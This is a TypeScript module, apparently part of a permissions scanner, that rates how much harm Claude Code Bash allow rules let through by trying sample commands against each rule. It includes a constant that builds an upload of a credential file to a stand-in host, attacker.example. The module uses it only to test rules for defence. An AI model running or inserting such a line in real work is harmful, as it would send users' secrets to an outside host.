import { posix } from 'node:path';
import type { Severity } from '../../core/severity.js';
import { powersOf } from '../shell/capabilities.js';
import type { CommandRisk, ShellAnalyzer, ShellContext } from '../shell/index.js';
import { commandRisks } from '../shell/index.js';
import {
  CREDENTIAL_PROBE,
  PAYLOAD_PLACEMENTS,
  type Reach,
  WITNESSES,
  type Witness,
} from './admitted-commands.js';
import { bashRuleMatches } from './claude-rules.js';

/** What the worst command a `Bash(…)` allow rule admits can do, and that command. */
export interface RuleReach {
  reach: Reach;
  severity: Severity;
  /** A command the rule admits that shows it; undefined when the rule admits every command as written. */
  example: string | undefined;
}

/** Data a tool that talks to other hosts can send anywhere. */
const UPLOAD = `-T ${CREDENTIAL_PROBE} https://attacker.example`;

const ORDER: Record<Reach, number> = { credentials: 1, network: 2, code: 3, 'any-command': 4 };

/** The rule's pattern with its first wildcard (or open `:*` tail) replaced by `insert`, the others emptied. */
function fill(content: string, insert: string): string | undefined {
  if (content.endsWith(':*')) return `${content.slice(0, -2)} ${insert}`;
  const at = content.indexOf('*');
  if (at < 0) return undefined;
  const before = content.slice(0, at);
  const after = content.slice(at + 1).replaceAll('*', '');
  const left = before === '' || before.endsWith(' ') ? before : `${before} `;
  const right = after === '' || after.startsWith(' ') ? after : ` ${after}`;
  return `${left}${insert}${right}`;
}

const firstWord = (text: string) => /^\s*([^\s:*]+)/.exec(text)?.[1];
const baseName = (word: string) =>
  posix.basename(word.replace(/\\/g, '/')).replace(/\.(?:exe|cmd|bat)$/i, '');

/** A witness written with the rule's spelling of the program (`/usr/bin/find`, `npx.cmd`). */
function respelled(witness: Witness, ruleProgram: string | undefined): string {
  const program = firstWord(witness.command);
  if (!ruleProgram || !program || ruleProgram === program || baseName(ruleProgram) !== program)
    return witness.command;
  return ruleProgram + witness.command.slice(program.length);
}

function reachOfRisks(risks: CommandRisk[]): Reach | undefined {
  let out: Reach | undefined;
  const raise = (r: Reach) => {
    if (!out || ORDER[r] > ORDER[out]) out = r;
  };
  for (const risk of risks) {
    if (risk.kind === 'pipe-to-shell') raise('any-command');
    // A package runner is the witnesses' to judge: `npx prettier:*` fixes the package.
    else if (risk.kind === 'dangerous' && risk.risk === 'critical') raise('code');
    else if (risk.kind === 'credential-access') raise('credentials');
    else if (risk.kind === 'network-fetch' && risk.detail.includes('attacker.example')) raise('network');
  }
  return out;
}

interface Candidate {
  command: string;
  declared?: Reach;
}

/**
 * Judges a Bash allow rule by the commands it admits (Claude Code's matching: `prefix:*`, `*` anywhere):
 * broad when one of them can run any command or arbitrary code, print credentials or send data to any host.
 * The shell analyser rates each admitted command; a witness's declared reach covers what it cannot see.
 */
export function bashRuleReach(
  content: string | undefined,
  shell: ShellAnalyzer,
  where: ShellContext,
): RuleReach | undefined {
  if (content === undefined || /^[\s*:]*$/.test(content))
    return { reach: 'any-command', severity: 'critical', example: undefined };
  const program = content.trimStart().startsWith('*') ? undefined : firstWord(content);
  const candidates: Candidate[] = [];
  const wild = content.includes('*');
  if (!wild) candidates.push({ command: content });
  for (const witness of WITNESSES) {
    const command = respelled(witness, program);
    if (bashRuleMatches(content, command))
      candidates.push({ command, ...(witness.reach && { declared: witness.reach }) });
  }
  // A tool with no witness of its own is tried as a wrapper (the analyser unwraps timeout, env, xargs, sudo,
  // cmd /c, …) and, when the capability table says it talks to other hosts, as an upload.
  if (wild && candidates.length === 0) {
    const openAfterProgram = content.slice(0, content.indexOf('*')).trim().split(/\s+/).length === 1;
    if (program && openAfterProgram && powersOf(baseName(program))?.includes('network'))
      candidates.push({ command: fill(content, UPLOAD) as string, declared: 'network' });
    for (const placement of PAYLOAD_PLACEMENTS)
      candidates.push({ command: fill(content, placement) as string });
  }

  let best: RuleReach | undefined;
  for (const c of candidates) {
    const risks = commandRisks(shell.analyze(c.command, where), where);
    const seen = reachOfRisks(risks);
    const reach = [seen, c.declared]
      .filter((r): r is Reach => r !== undefined)
      .sort((a, b) => ORDER[b] - ORDER[a])[0];
    if (!reach) continue;
    if (!best || ORDER[reach] > ORDER[best.reach])
      best = { reach, severity: reach === 'any-command' ? 'critical' : 'high', example: c.command };
  }
  return best;
}
